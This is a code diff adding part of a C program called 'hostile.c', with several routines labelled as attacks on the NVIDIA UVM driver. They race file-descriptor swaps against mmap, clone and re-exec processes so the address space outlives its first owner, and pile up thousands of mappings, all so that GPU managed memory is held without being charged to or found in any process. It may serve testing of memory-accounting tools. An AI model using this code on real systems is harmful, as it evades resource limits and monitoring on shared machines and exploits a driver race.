@@ -1,0 +1,229 @@
+/* Managed memory that is to be found by nobody; a part of hostile.c. */
+/* sharer MIB UNPLACED: managed memory that is charged to nobody, in an address space whose first process makes no driver call. */
+static int sharer_fd, sharer_uvm, sharer_plain;
+static void *sharer_swap(void *nothing) {
+    (void)nothing;
+    while (!atomic_load(&stop)) {
+        dup2(sharer_uvm, sharer_fd);
+        dup2(sharer_plain, sharer_fd);
+    }
+    return NULL;
+}
+static int sharer_is_uvm(unsigned long at) {
+    char line[512], begin[32];
+    snprintf(begin, sizeof begin, "%lx-", at);
+    FILE *maps = fopen("/proc/self/maps", "r");
+    int is = 0;
+    while (fgets(line, sizeof line, maps))
+        if (strncmp(line, begin, strlen(begin)) == 0) is = strstr(line, "nvidia-uvm") != NULL;
+    fclose(maps);
+    return is;
+}
+/* Where a mapping is asked for, and at which offset so that it is managed memory: one that the kernel rounds down, or where it would place it. */
+static unsigned long hint, address;
+static void choose(char **a, uint64_t size) {
+    hint = 0x200000000001ul, address = 0x200000000000ul;
+    if (!number(a, 1, 0)) return;
+    void *at = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED, sharer_plain, 4096);
+    if (at == MAP_FAILED) die("mmap");
+    munmap(at, size);
+    hint = 0, address = (unsigned long)at;
+}
+static int sharer_child(void *arguments) {
+    uint64_t size = number(arguments, 0, 8192) * MIB;
+    struct session s = begin();
+    uint64_t piece = 256 * MIB;
+    uint32_t handle = 0;
+    say("first", memory(&s, &piece, &handle));
+    uint64_t initialize[2] = {0};
+    say("initialize", ioctl(sharer_uvm, 0x30000001, initialize) < 0 ? -errno : (long)(uint32_t)initialize[1]);
+    int tries = 0, refused = 0, plain = 0;
+    choose(arguments, size);
+    for (; tries < 30000; tries++) {
+        void *at = mmap((void *)hint, size, PROT_READ | PROT_WRITE, MAP_SHARED, sharer_fd, address);
+        if (at == MAP_FAILED) { refused++; continue; }
+        if (at == (void *)address && sharer_is_uvm(address)) break;
+        plain++;
+        munmap(at, size);
+    }
+    atomic_store(&stop, 1);
+    say("tries", tries); say("refused", refused); say("plain", plain);
+    say("mapped", sharer_is_uvm(address));
+    for (;;) pause();
+}
+static void attack_sharer(char **a) {
+    sharer_uvm = xopen("/dev/nvidia-uvm");
+    sharer_plain = syscall(SYS_memfd_create, "plain", 0);
+    sharer_fd = dup(sharer_plain);
+    pthread_t thread;
+    pthread_create(&thread, NULL, sharer_swap, NULL);
+    char *stack = mmap(NULL, 1 << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+    long child = clone(sharer_child, stack + (1 << 20), CLONE_VM | CLONE_FILES | SIGCHLD, a);
+    (void)child;
+    for (;;) syscall(SYS_pause);
+}
+
+/* hop MIB UNPLACED MICROSECONDS: the same, in an address space that goes from one process to the next. */
+#include <dirent.h>
+static char *hop_stack[2];
+static long hop_pause;
+static int hop_next(void *arguments) {
+    long which = (long)arguments;
+    struct timespec t = {0, hop_pause};
+    syscall(SYS_nanosleep, &t, NULL);
+    clone(hop_next, hop_stack[which ^ 1] + (1 << 16), CLONE_VM | CLONE_FILES | SIGCHLD, (void *)(which ^ 1));
+    syscall(SYS_exit, 0);
+    return 0;
+}
+static void attack_hop(char **a) {
+    uint64_t size = number(a, 0, 8192) * MIB;
+    hop_pause = (long)number(a, 2, 2000) * 1000;
+    signal(SIGCHLD, SIG_IGN);
+    int ready[2];
+    if (pipe(ready)) die("pipe");
+    if (fork() == 0) {
+        for (int i = 0; i < 2; i++)
+            hop_stack[i] = mmap(NULL, 1 << 16, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+        char byte;
+        if (read(ready[0], &byte, 1) != 1) die("read");
+        sharer_uvm = xopen("/dev/nvidia-uvm");
+        sharer_plain = syscall(SYS_memfd_create, "plain", 0);
+        sharer_fd = dup(sharer_plain);
+        struct session s = begin();
+        uint64_t piece = 256 * MIB;
+        uint32_t handle = 0;
+        say("first", memory(&s, &piece, &handle));
+        uint64_t initialize[2] = {0};
+        ioctl(sharer_uvm, 0x30000001, initialize);
+        pthread_t thread;
+        pthread_create(&thread, NULL, sharer_swap, NULL);
+        choose(a, size);
+        for (;;) {
+            void *at = mmap((void *)hint, size, PROT_READ | PROT_WRITE, MAP_SHARED, sharer_fd, address);
+            if (at == MAP_FAILED) continue;
+            if (at == (void *)address && sharer_is_uvm(address)) break;
+            munmap(at, size);
+        }
+        say("mapped", 1);
+        atomic_store(&stop, 1);
+        clone(hop_next, hop_stack[0] + (1 << 16), CLONE_VM | CLONE_FILES | SIGCHLD, (void *)0);
+        syscall(SYS_exit_group, 0);
+    }
+    char *room = mmap(NULL, 60000 * 4096ull, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+    for (int i = 0; i < 60000; i += 2) mprotect(room + i * 4096ull, 4096, PROT_NONE);
+    if (write(ready[1], "x", 1) != 1) die("write");
+    say("decoy", 1);
+    for (;;) pause();
+}
+
+/* leap MIB: no race: who has mapped executes another program, and the address space lives on in others. */
+static char *leap_stack[64];
+static volatile uint64_t leap_piece, leap_at = 0x200000000000ull, leap_got;
+static double leap_last;
+static int leap_next(void *arguments) {
+    long which = (long)arguments, next = (which + 1) % 64;
+    struct timespec t = {0, 2000000};
+    syscall(SYS_nanosleep, &t, NULL);
+    if (now() > leap_last + 3) {
+        leap_last = now();
+        long at = syscall(SYS_mmap, leap_at, leap_piece, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_FIXED_NOREPLACE, sharer_uvm, leap_at);
+        if (at > 0) {
+            leap_at += leap_piece + 2 * MIB, leap_got += leap_piece;
+            clone(leap_next, leap_stack[next] + (1 << 14), CLONE_VM | CLONE_FILES | SIGCHLD, (void *)next);
+            char *arguments[] = {"hostile", "idle", NULL}, *none[] = {NULL};
+            syscall(SYS_execve, "/bin/hostile", arguments, none);
+        }
+    }
+    clone(leap_next, leap_stack[next] + (1 << 14), CLONE_VM | CLONE_FILES | SIGCHLD, (void *)next);
+    syscall(SYS_exit, 0);
+    return 0;
+}
+static void attack_idle(char **a) {
+    (void)a;
+    struct rm_alloc call = {.class = 0x41};
+    ioctl(-1, RM(0x2b, struct rm_alloc), &call);
+    for (;;) pause();
+}
+static void attack_leap(char **a) {
+    leap_piece = number(a, 0, 256) * MIB;
+    signal(SIGCHLD, SIG_IGN);
+    int ready[2];
+    if (pipe(ready)) die("pipe");
+    if (fork() == 0) {
+        for (int i = 0; i < 64; i++)
+            leap_stack[i] = mmap(NULL, 1 << 14, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+        char byte;
+        if (read(ready[0], &byte, 1) != 1) die("read");
+        sharer_uvm = xopen("/dev/nvidia-uvm");
+        uint64_t initialize[2] = {0};
+        ioctl(sharer_uvm, 0x30000001, initialize);
+        clone(leap_next, leap_stack[0] + (1 << 14), CLONE_VM | CLONE_FILES | SIGCHLD, (void *)0);
+        syscall(SYS_exit_group, 0);
+    }
+    char *room = mmap(NULL, 60000 * 4096ull, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+    for (int i = 0; i < 60000; i += 2) mprotect(room + i * 4096ull, 4096, PROT_NONE);
+    if (write(ready[1], "x", 1) != 1) die("write");
+    double begin = now();
+    unsigned long most = 0;
+    while (now() < begin + 60) {
+        DIR *proc = opendir("/proc");
+        struct dirent *entry;
+        while ((entry = readdir(proc))) {
+            if (entry->d_name[0] < '1' || entry->d_name[0] > '9' || atoi(entry->d_name) == getpid()) continue;
+            char path[64], line[512];
+            snprintf(path, sizeof path, "/proc/%s/maps", entry->d_name);
+            FILE *maps = fopen(path, "r");
+            if (!maps) continue;
+            unsigned long sum = 0, from, to;
+            while (fgets(line, sizeof line, maps))
+                if (strstr(line, "nvidia-uvm") && sscanf(line, "%lx-%lx", &from, &to) == 2) sum += to - from;
+            fclose(maps);
+            if (sum > most) most = sum, say("most", most);
+        }
+        closedir(proc);
+        usleep(1000);
+    }
+    for (;;) pause();
+}
+
+/* slow MIB UNPLACED PROCESSES: so much to be read before the process that has it that nobody gets there. */
+static int slow_child(void *nothing) {
+    (void)nothing;
+    for (;;) syscall(SYS_pause);
+    return 0;
+}
+static void attack_slow(char **a) {
+    int ready[2];
+    if (pipe(ready)) die("pipe");
+    char name[250];
+    memset(name, 'n', 249), name[249] = 0;
+    int fd = (int)syscall(SYS_memfd_create, name, 0);
+    if (fd < 0 || ftruncate(fd, 4096)) die("memfd");
+    if (fork() == 0) {
+        int n = 0;
+        while (n < 64000 && mmap(NULL, 4096, PROT_READ, MAP_SHARED, fd, 0) != MAP_FAILED) n++;
+        say("mappings", n);
+        static char stacks[400][1024] __attribute__((aligned(64)));
+        long i, count = (long)number(a, 2, 100);
+        for (i = 0; i < count && i < 400; i++)
+            if (clone(slow_child, stacks[i] + 1024, CLONE_VM | CLONE_FILES | SIGCHLD, NULL) < 0) break;
+        say("processes", i);
+        if (write(ready[1], "x", 1) != 1) die("write");
+        for (;;) pause();
+    }
+    char byte;
+    if (read(ready[0], &byte, 1) != 1) die("read");
+    pid_t mapper = fork();
+    if (mapper == 0) {
+        sharer_uvm = xopen("/dev/nvidia-uvm");
+        sharer_plain = syscall(SYS_memfd_create, "plain", 0);
+        sharer_fd = dup(sharer_plain);
+        pthread_t thread;
+        pthread_create(&thread, NULL, sharer_swap, NULL);
+        sharer_child(a);
+    }
+    int status = 0;
+    waitpid(mapper, &status, 0);
+    say("killed", WIFSIGNALED(status) ? WTERMSIG(status) : 0);
+    for (;;) pause();
+}
